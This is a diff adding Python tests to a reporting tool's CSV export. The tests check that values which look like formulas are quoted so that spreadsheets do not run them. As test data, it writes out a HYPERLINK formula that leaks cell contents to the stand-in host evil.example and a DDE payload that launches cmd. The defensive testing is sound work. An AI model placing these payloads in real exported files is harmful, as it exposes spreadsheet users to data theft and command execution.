@@ -152,3 +152,58 @@ def test_func_accepts_a_plain_namespace(sqlite_db: Database, runtime_for, capsys
     bad = argparse.Namespace(since="11/01/2026", until=None, by=None, format="json")
     assert cmd_report(bad) == 2
     assert "since: '11/01/2026' is not a date" in capsys.readouterr().err
+
+
+# -- CSV injection ----------------------------------------------------------------------------
+
+EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
+
+
+def test_csv_keeps_formula_like_segments_as_text(db: Database, runtime_for, capsys):
+    runtime_for(db)
+    categories = [EVIL, "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3", "\tTAB", "\rCR", "books"]
+    cases = [
+        Case("completed", START + timedelta(days=i % 7), score=score, category=category)
+        for i, category in enumerate(categories)
+        for score in (0, 0, 3, 10)  # NPS -50: a negative number in every row
+    ]
+    seed(db, cases)
+
+    assert run(["--format", "csv", "--by", "category"]) == 0
+    out = capsys.readouterr().out
+    rows = list(csv.DictReader(io.StringIO(out, newline="")))
+
+    segments = {r["segment"] for r in rows}
+    assert "'" + EVIL in segments and EVIL not in segments
+    assert {"'@SUM(1+1)", "'+cmd|' /C calc'!A0", "'-2+3", "'\tTAB", "'\rCR", "books"} <= segments
+    for row in rows:
+        assert row["segment"] == "all" or not row["segment"].startswith(("=", "+", "-", "@"))
+        assert row["nps"] == "-50.0"  # numbers stay numbers: no quote in front
+        assert float(row["nps_ci95_low"]) < -50.0
+    assert "\n'=HYPERLINK(" in out or "\n\"'=HYPERLINK(" in out
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1+1", "'+1+1"),
+        ("-1+1", "'-1+1"),
+        ("@A1", "'@A1"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("-12.5", "-12.5"),  # text that is a plain number opens as that number: harmless
+        ("+3", "+3"),
+        ("-1e3", "-1e3"),
+        ("-\u0663", "'-\u0663"),  # a non-ASCII digit is not a plain number
+        ("books", "books"),
+        ("a=b", "a=b"),
+        (-12.5, -12.5),
+        (-3, -3),
+        ("", ""),
+    ],
+)
+def test_csv_cell(value, cell):
+    from reports.render import csv_cell
+
+    assert csv_cell(value) == cell
